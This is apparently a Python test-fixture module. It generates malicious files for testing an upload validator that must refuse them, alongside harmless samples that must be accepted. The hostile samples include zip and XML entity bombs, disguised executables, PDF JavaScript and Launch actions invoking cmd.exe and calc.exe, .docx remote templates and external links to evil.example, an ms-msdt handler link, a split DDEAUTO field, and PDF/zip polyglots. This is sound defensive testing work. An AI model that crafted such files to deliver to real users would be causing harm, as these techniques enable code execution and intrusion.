"""Bad files, generated: each kind of file a unit might send that must be refused."""

from __future__ import annotations

import io
import zipfile
import zlib

from tests.factories import plan_docx

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&lol4;</w:t></w:r></w:p></w:body></w:document>"""


def _rezip(replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(plan_docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, (replace or {}).get(info.filename, src.read(info.filename)))
        for name, data in (add or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def zip_bomb(expanded_mb: int = 400) -> bytes:
    """A .docx whose one extra part inflates to `expanded_mb` MB of zeros."""
    out = io.BytesIO()
    src = zipfile.ZipFile(io.BytesIO(plan_docx()))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
        with z.open("word/media/padding.bin", "w") as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(expanded_mb):
                f.write(chunk)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(595, 842)
    w.encrypt("mat-khau")
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def bad_files() -> dict[str, tuple[str, bytes, str]]:
    """Return {case: (file name, bytes, expected reason code)}."""
    good = plan_docx()
    return {
        "empty": ("rong.docx", b"", "empty"),
        "truncated_docx": ("cut.docx", good[: len(good) // 2], "truncated"),
        "exe_as_docx": ("ke-hoach.docx", b"MZ\x90\x00\x03" + b"\x00" * 4000, "executable"),
        "elf_as_pdf": ("bao-cao.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 4000, "executable"),
        "docm_name": ("ke-hoach.docm", good, "macro"),
        "vba_part": ("ke-hoach.docx", _rezip(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}), "macro"),
        "zip_bomb": ("bom.docx", zip_bomb(), "zip_bomb"),
        "billion_laughs": ("lol.docx", _rezip(replace={"word/document.xml": BILLION_LAUGHS}), "xml_entities"),
        "encrypted_pdf": ("mat-khau.pdf", encrypted_pdf(), "encrypted_pdf"),
        "malformed_pdf": (
            "hong.pdf",
            b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\ngarbage\n%%EOF\n",
            "malformed_pdf",
        ),
        "too_large": ("lon.pdf", b"%PDF-1.4\n" + b"0" * (21 * 1024 * 1024) + b"\n%%EOF\n", "too_large"),
        # the three files of issue 8; active_files() has the rest
        "pdf_js_openaction": (
            "bao-cao.pdf",
            build_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
            "pdf_javascript",
        ),
        "docx_remote_template": (
            "bao-cao.docx",
            _rezip(
                add={"word/_rels/settings.xml.rels": _rels(("attachedTemplate", "http://evil.example/mau.dotm", True))}
            ),
            "docx_external",
        ),
        "docx_embedded_exe": (
            "bao-cao.docx",
            _rezip(add={"word/embeddings/oleObject1.bin": b"MZ\x90\0" + b"\0" * 4000}),
            "docx_embedded",
        ),
    }


# Active content (issue 8): what runs, loads or launches by itself when a clerk opens the file

PDF_PAGE_TEXT = b"BT /F1 12 Tf 72 760 Td (KE HOACH so 55/KH-UBND) Tj ET"


def build_pdf(
    extra_catalog: bytes = b"",
    extra_page: bytes = b"",
    extra_objects: tuple[bytes, ...] = (),
    *,
    in_objstm: tuple[int, ...] = (),
    objstm_raw: bytes | None = None,
) -> bytes:
    """Write a one-page PDF by hand; objects numbered in `in_objstm` go into a compressed object stream.

    Objects: 1 catalog, 2 pages, 3 page, 4 content, 5 font, 6… extra_objects. With an object stream the file
    has a cross-reference stream (PDF 1.5), as Word and most tools write today.
    """
    body = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + extra_page + b" >>",
        4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(PDF_PAGE_TEXT), PDF_PAGE_TEXT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    for i, obj in enumerate(extra_objects, start=6):
        body[i] = obj
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, tuple[int, int, int]] = {}  # num -> (type, field2, field3) as in an xref stream
    packed = list(in_objstm)
    for num, obj in body.items():
        if num in packed:
            continue
        offsets[num] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, obj)
    if not packed and objstm_raw is None:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
        for num in sorted(body):
            out += b"%010d 00000 n \n" % offsets[num][1]
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
        return bytes(out)
    stm = len(body) + 1
    heads, data = [], b""
    for idx, num in enumerate(packed):
        heads.append(b"%d %d" % (num, len(data)))
        data += body[num] + b"\n"
        offsets[num] = (2, stm, idx)
    head = b" ".join(heads) + b"\n"
    raw = objstm_raw if objstm_raw is not None else zlib.compress(head + data)
    offsets[stm] = (1, len(out), 0)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stm,
        len(packed),
        len(head),
        len(raw),
    )
    out += raw + b"\nendstream\nendobj\n"
    xref_num = stm + 1
    offsets[xref_num] = (1, len(out), 0)
    rows = b"\x00\x00\x00\x00\x00\xff\xff" + b"".join(
        bytes([t]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for _, (t, a, b) in sorted(offsets.items())
    )
    xs = zlib.compress(rows)
    xref = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        xref_num,
        xref_num + 1,
        len(xs),
    )
    out += xs + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def pdf_with_js_in_objstm() -> bytes:
    """The JavaScript /OpenAction sits in a compressed object stream: no byte of it is visible in the file."""
    return build_pdf(
        b"/OpenAction 6 0 R", extra_objects=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",), in_objstm=(6,)
    )


def pdf_objstm_bomb(mb: int = 300) -> bytes:
    """An object stream that inflates to `mb` MB of spaces."""
    z = zlib.compressobj(9)
    raw = z.compress(b"6 0\n<< >>") + b"".join(z.compress(b" " * (1 << 20)) for _ in range(mb)) + z.flush()
    return build_pdf(extra_objects=(b"<< >>",), in_objstm=(6,), objstm_raw=raw)


def pypdf_with(attachment: tuple[str, bytes] | None = None) -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(595, 842)
    if attachment:
        w.add_attachment(*attachment)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _rels(*rels: tuple[str, str, bool]) -> bytes:
    """A .rels part: (type's last segment, target, external)."""
    items = "".join(
        f'<Relationship Id="rIdX{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{t}" '
        f'Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if ext else ""}/>'
        for i, (t, target, ext) in enumerate(rels)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'
    ).encode()


def _add_document_rels(*rels: tuple[str, str, bool]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(plan_docx())).read("word/_rels/document.xml.rels")
    extra = _rels(*rels).split(b'relationships">', 1)[1].rsplit(b"</Relationships>", 1)[0]
    new = src.replace(b"</Relationships>", extra + b"</Relationships>")
    return _rezip(replace={"word/_rels/document.xml.rels": new})


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _with_body_xml(xml: str) -> bytes:
    """The plan with `xml` (WordprocessingML runs and paragraphs) added at the start of its body."""
    doc = zipfile.ZipFile(io.BytesIO(plan_docx())).read("word/document.xml")
    return _rezip(replace={"word/document.xml": doc.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)})


def _field_runs(*parts: str) -> str:
    """One complex field's runs; a part starting with "<w:r>" (a nested field) goes in as it is."""
    instr = "".join(
        p if p.startswith("<w:r>") else f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in parts
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{instr}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _field(*parts: str) -> str:
    return f"<w:p>{_field_runs(*parts)}</w:p>"


def embedded_package(*, macro: bool) -> bytes:
    """An .xlsx (a chart's data) or, with `macro`, an .xlsm carrying a VBA project."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["Quý", "Số đơn vị"])
    buf = io.BytesIO()
    wb.save(buf)
    if not macro:
        return buf.getvalue()
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
        z.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    return out.getvalue()


def _pdf_zip_polyglot() -> bytes:
    """A valid PDF with a macro .docx appended: a zip reader finds the .docx from the end, a PDF reader the PDF."""
    pdf = pypdf_with()
    tail = pdf[pdf.rindex(b"startxref") :]  # the zip comment repeats it, so the file still ends like a PDF
    out = io.BytesIO(_rezip(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}))
    with zipfile.ZipFile(out, "a") as z:
        z.comment = b"\n" + tail
    return pdf + out.getvalue()


def _zip_with_pdf_header() -> bytes:
    """A macro .docx whose first stored entry holds "%PDF-": the first bytes say zip, the old check said PDF."""
    src = zipfile.ZipFile(io.BytesIO(_rezip(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("docProps/custom.xml"), b"<x>%PDF-1.7</x>", compress_type=zipfile.ZIP_STORED)
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
    return out.getvalue()


def _duplicate_document() -> bytes:
    """Two parts named word/document.xml: Word and python-docx may each read a different one."""
    import warnings

    doc = zipfile.ZipFile(io.BytesIO(plan_docx())).read("word/document.xml")
    out = io.BytesIO(_rezip())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as z:
        warnings.simplefilter("ignore")  # a second part of the same name is the point
        z.writestr("word/document.xml", doc.replace("KẾ HOẠCH".encode(), "THÔNG BÁO".encode()))
    return out.getvalue()


def _doctype_after_padding() -> bytes:
    doc = zipfile.ZipFile(io.BytesIO(plan_docx())).read("word/document.xml")
    decl, rest = doc.split(b"?>", 1)
    doctype = b'<!DOCTYPE w:document SYSTEM "http://evil.example/x.dtd">'
    padded = decl + b"?><!--" + b" " * 8192 + b"-->\n" + doctype + rest
    return _rezip(replace={"word/document.xml": padded})


def _utf16_entities() -> bytes:
    xml = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    return _rezip(replace={"word/document.xml": xml.decode().encode("utf-16")})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024
JS_URI = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (%s) >> >>]"


def active_files() -> dict[str, tuple[str, bytes, str]]:
    """Return {case: (file name, bytes, expected reason code)} for active content, each refused."""
    settings_rels = "word/_rels/settings.xml.rels"
    return {
        # PDF
        "pdf_js_openaction": (
            "bao-cao.pdf",
            build_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
            "pdf_javascript",
        ),
        "pdf_js_names_tree": (
            "bao-cao.pdf",
            build_pdf(
                b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >>",
                extra_objects=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",),
                in_objstm=(6,),
            ),
            "pdf_javascript",
        ),
        "pdf_js_page_aa": (
            "bao-cao.pdf",
            build_pdf(
                extra_page=b"/AA << /O << /S /JavaScript /JS 6 0 R >> >>",
                extra_objects=(b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",),
            ),
            "pdf_javascript",
        ),
        "pdf_js_hex_escaped": (
            "bao-cao.pdf",
            build_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
            "pdf_javascript",
        ),
        "pdf_js_in_objstm": ("bao-cao.pdf", pdf_with_js_in_objstm(), "pdf_javascript"),
        "pdf_launch": (
            "bao-cao.pdf",
            build_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (calc.exe) >> >>"),
            "pdf_launch",
        ),
        "pdf_launch_in_objstm": (
            "bao-cao.pdf",
            build_pdf(b"/OpenAction 6 0 R", extra_objects=(b"<< /S /Launch /F (calc.exe) >>",), in_objstm=(6,)),
            "pdf_launch",
        ),
        "pdf_embedded_file": ("bao-cao.pdf", pypdf_with(attachment=("setup.exe", b"MZ\x90\0")), "pdf_embedded_file"),
        "pdf_rich_media": (
            "bao-cao.pdf",
            build_pdf(extra_page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>]"),
            "pdf_rich_media",
        ),
        "pdf_xfa": (
            "bao-cao.pdf",
            build_pdf(
                b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra_objects=(b"<< /Length 7 >>\nstream\n<xdp/>\nendstream",)
            ),
            "pdf_xfa",
        ),
        "pdf_objstm_bomb": ("bao-cao.pdf", pdf_objstm_bomb(), "zip_bomb"),
        "pdf_zip_polyglot": ("bao-cao.pdf", _pdf_zip_polyglot(), "polyglot"),
        # .docx
        "docx_remote_template": (
            "bao-cao.docx",
            _rezip(add={settings_rels: _rels(("attachedTemplate", "http://evil.example/mau.dotm", True))}),
            "docx_external",
        ),
        "docx_unc_template": (
            "bao-cao.docx",
            _rezip(add={settings_rels: _rels(("attachedTemplate", "file://evil.example/share/mau.dotm", True))}),
            "docx_external",
        ),
        "docx_external_image": (
            "bao-cao.docx",
            _add_document_rels(("image", "http://evil.example/p.png", True)),
            "docx_external",
        ),
        "docx_external_ole": (
            "bao-cao.docx",
            _add_document_rels(
                ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", True)
            ),
            "docx_external",
        ),
        "docx_external_frame": (
            "bao-cao.docx",
            _rezip(add={"word/_rels/webSettings.xml.rels": _rels(("frame", "\\\\evil.example\\share\\f.htm", True))}),
            "docx_external",
        ),
        "docx_external_subdocument": (
            "bao-cao.docx",
            _add_document_rels(("subDocument", "https://evil.example/phan2.docx", True)),
            "docx_external",
        ),
        "docx_link_to_unc": (
            "bao-cao.docx",
            _add_document_rels(("hyperlink", "file://evil.example/s/a.lnk", True)),
            "docx_unsafe_link",
        ),
        "docx_link_protocol_handler": (
            "bao-cao.docx",
            _add_document_rels(("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force", True)),
            "docx_unsafe_link",
        ),
        "docx_embedded_exe": (
            "bao-cao.docx",
            _rezip(add={"word/embeddings/oleObject1.bin": b"MZ\x90\0" + b"\0" * 4000}),
            "docx_embedded",
        ),
        "docx_embedded_ole": ("bao-cao.docx", _rezip(add={"word/embeddings/oleObject1.bin": OLE}), "docx_embedded"),
        "docx_exe_as_image": (
            "bao-cao.docx",
            _rezip(add={"word/media/image9.png": b"\x7fELF\x02\x01" + b"\0" * 99}),
            "docx_embedded",
        ),
        "docx_embedded_xlsm": (
            "bao-cao.docx",
            _rezip(add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": embedded_package(macro=True)}),
            "docx_embedded",
        ),
        "docx_activex": (
            "bao-cao.docx",
            _rezip(add={"word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax/>', "word/activeX/activeX1.bin": OLE}),
            "docx_activex",
        ),
        "docx_vba_by_relationship": (
            "bao-cao.docx",
            _rezip(
                replace={
                    "word/_rels/document.xml.rels": _rels(
                        ("../../microsoft.com/office/2006/relationships/vbaProject", "x.bin", False)
                    )
                },
                add={"word/x.bin": b"Attribut\x00e VB_Name"},
            ),
            "macro",
        ),
        "docx_ddeauto_split": (
            "bao-cao.docx",
            _with_body_xml(_field("DD", 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
            "docx_field",
        ),
        "docx_includepicture": (
            "bao-cao.docx",
            _with_body_xml(
                '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d"/></w:p>'
            ),
            "docx_field",
        ),
        "docx_field_named_by_field": (
            "bao-cao.docx",
            _with_body_xml(_field(_field_runs("QUOTE 68 68 69 65 85 84 79"), ' "c:\\\\windows\\\\calc.exe"')),
            "docx_field",
        ),
        "docx_doctype_after_padding": ("bao-cao.docx", _doctype_after_padding(), "xml_entities"),
        "docx_utf16_entities": ("bao-cao.docx", _utf16_entities(), "malformed_docx"),
        "docx_duplicate_part": ("bao-cao.docx", _duplicate_document(), "malformed_docx"),
        "zip_with_pdf_header": ("bao-cao.docx", _zip_with_pdf_header(), "macro"),
    }


def harmless_files() -> dict[str, tuple[str, bytes, str]]:
    """Return {case: (file name, bytes, kind)}: things real documents carry that must still be accepted."""
    return {
        "pdf_plain": ("bao-cao.pdf", build_pdf(), "pdf"),
        "pdf_plain_objstm": ("bao-cao.pdf", build_pdf(in_objstm=(2, 3, 5)), "pdf"),
        "pdf_link_mentioning_javascript": (
            "bao-cao.pdf",
            build_pdf(extra_page=JS_URI % (b"https://developer.mozilla.org/en-US/docs/Web/JavaScript")),
            "pdf",
        ),
        "pdf_title_mentioning_js": (
            "bao-cao.pdf",
            build_pdf(b"/Names << /Dests << /Names [(/JS) [3 0 R /Fit]] >> >>"),
            "pdf",
        ),
        "pdf_goto_openaction": ("bao-cao.pdf", build_pdf(b"/OpenAction [3 0 R /Fit]"), "pdf"),
        "docx_web_and_mail_links": (
            "bao-cao.docx",
            _add_document_rels(
                ("hyperlink", "https://dichvucong.gov.vn/p/home/dvc-trang-chu.html", True),
                ("hyperlink", "http://travinh.gov.vn", True),
                ("hyperlink", "mailto:vanthu@travinh.gov.vn", True),
            ),
            "docx",
        ),
        "docx_local_template": (
            "bao-cao.docx",
            _rezip(
                add={
                    "word/_rels/settings.xml.rels": _rels(
                        (
                            "attachedTemplate",
                            "file:///C:\\Users\\vanthu\\AppData\\Roaming\\Microsoft\\Templates\\Mau%20KH.dotx",
                            True,
                        )
                    )
                }
            ),
            "docx",
        ),
        "docx_chart_data": (
            "bao-cao.docx",
            _rezip(add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": embedded_package(macro=False)}),
            "docx",
        ),
        "docx_page_and_hyperlink_fields": (
            "bao-cao.docx",
            _with_body_xml(
                _field("PAGE") + _field(" HYPERLINK ", '"https://travinh.gov.vn"') + _field("IF ", "1 = 1 ", '"có"')
            ),
            "docx",
        ),
    }


def large_document_docx(xml_mb: int = 48) -> bytes:
    """A plan whose word/document.xml inflates to `xml_mb` MB of varied text (~100:1, under the bomb ratio)."""
    import random

    rnd = random.Random(1)
    words = [bytes(rnd.choice(b"abcdeghiklmnopqrstuvxy") for _ in range(rnd.randint(2, 7))) for _ in range(3000)]
    paras = [
        b"<w:p><w:r><w:t>" + b" ".join(rnd.choice(words) for _ in range(60)) + b"</w:t></w:r></w:p>" for _ in range(70)
    ]
    src = zipfile.ZipFile(io.BytesIO(plan_docx()))
    body = src.read("word/document.xml")
    cut = body.index(b"<w:body>") + len(b"<w:body>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename != "word/document.xml":
                z.writestr(info.filename, src.read(info.filename))
                continue
            with z.open(info.filename, "w") as f:
                f.write(body[:cut])
                for i in range(xml_mb * 1024 * 1024 // len(paras[0])):
                    f.write(paras[i % len(paras)])
                f.write(body[cut:])
    return out.getvalue()
